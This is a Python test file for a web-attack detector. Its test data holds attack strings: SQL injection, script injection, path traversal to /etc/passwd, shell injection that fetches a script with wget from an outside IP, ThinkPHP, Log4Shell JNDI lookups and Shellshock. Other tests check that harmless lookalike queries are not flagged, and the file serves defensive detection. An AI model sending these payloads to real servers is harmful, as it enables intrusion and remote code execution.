"""Requests that carry code, and what people write that looks like it."""

from __future__ import annotations

import pytest

from netscope.engine.analyze.web_attack import WebAttack, attack_in
from netscope.model.records import Alert
from tests.engine.analyze.samples import flow, network, request


def told(
    uris: list[str], *, client: str = "192.168.1.61", server: str = "198.51.100.7", agent: str | None = None
) -> list[Alert]:
    detector = WebAttack(network())
    its = flow(client=client, server=server, port=80)
    return [
        alert
        for second, uri in enumerate(uris)
        for alert in detector.observe(request(uri, second, of=its, status=None, user_agent=agent))
    ]


@pytest.mark.parametrize(
    ("uri", "kind"),
    [
        ("/a?id=1%27+and+1%3D1+union+select+user%2C+password+from+users%23", "SQL injection"),
        ("/a?id=1%27%20OR%20%271%27=%271", "SQL injection"),
        ("/a?id=1;DROP TABLE users", "SQL injection"),
        ("/a?id=1+AND+SLEEP(5)", "SQL injection"),
        ("/a?name=%3Cscript%3Ealert(1)%3C/script%3E", "script injection"),
        ("/a?name=%253Cscript%253E", "script injection"),
        ("/a?u=%22onerror=alert(1)", "script injection"),
        ("/../../../../etc/passwd", "path traversal"),
        ("/a?f=..%2f..%2f..%2fboot.ini", "path traversal"),
        ("/cgi-bin/x?a=;wget http://203.0.113.9/x.sh", "shell command"),
        ("/ping?host=1.1.1.1|cat /etc/hosts", "shell command"),
        ("/index.php?s=/index/think\\app/invokefunction&function=system(", "shell command"),
        ("/?x=${jndi:ldap://203.0.113.9:1389/a}", "Log4Shell"),
        ("/?x=${${lower:j}ndi:${lower:l}dap://x/a}", "Log4Shell"),
    ],
)
def test_code_in_an_address(uri: str, kind: str) -> None:
    assert attack_in(request(uri, status=None))[0] == kind


@pytest.mark.parametrize(
    ("agent", "kind"),
    [("() { :; }; echo x", "Shellshock"), ("${jndi:ldap://x/a}", "Log4Shell"), ("jndi:ldap://x/a", "Log4Shell")],
)
def test_code_in_the_user_agent(agent: str, kind: str) -> None:
    assert attack_in(request("/", status=None, user_agent=agent))[0] == kind


@pytest.mark.parametrize(
    "uri",
    [
        "/search?q=it's+time+to+select+a+union", "/a?next=%2Fhome%2F..%2Fb", "/x?price=$5;%20really", "/a/b/../c",
        "/p?json={%22a%22:%22b%22}", "/d?path=C:%5CUsers", "/q?where=a|b|c", "/t?x=%7B%7Bname%7D%7D",
        "/?s=O'Brien+or+Smith",
        "/ads?u=https%3A%2F%2Fexample.org%2Fscript.js", "/m?a=1&b=2;c=3", "/font?family=A:400|B:700", "/p?on=load",
    ],
)  # fmt: skip
def test_what_people_and_programs_write(uri: str) -> None:
    assert attack_in(request(uri, status=None)) == (None, "")


def test_one_try_that_runs_code_is_enough_and_search_words_are_not() -> None:
    assert [alert.severity for alert in told(["/?x=${jndi:ldap://203.0.113.9/a}"])] == ["high"]
    assert told(["/search?q=union+select"]) == []
    words = told(["/search?q=union+select", "/search?q=union+select+null"])
    assert [(alert.severity, alert.count) for alert in words] == [("low", 1)]


def test_against_a_server_of_this_network() -> None:
    injections = ["/?id=1'+or+1=1", "/?id=2'+or+1=1"]
    outside = told(injections, client="203.0.113.5", server="192.168.1.5")
    inside = told(injections, server="192.168.1.5")
    assert ([a.severity for a in outside], [a.severity for a in inside]) == (["medium"], ["high"])
    assert outside[0].evidence["observed"] == {"requests": 2, "kinds": 1}


def test_a_long_attack_is_one_alert_told_in_steps() -> None:
    said = told([f"/?id={n}'+or+1=1" for n in range(300)])
    assert sum(alert.count for alert in said) == 1
    assert len(said) < 60
    assert said[-1].severity == "high"
    assert len(said[-1].evidence["requests"]) == 8
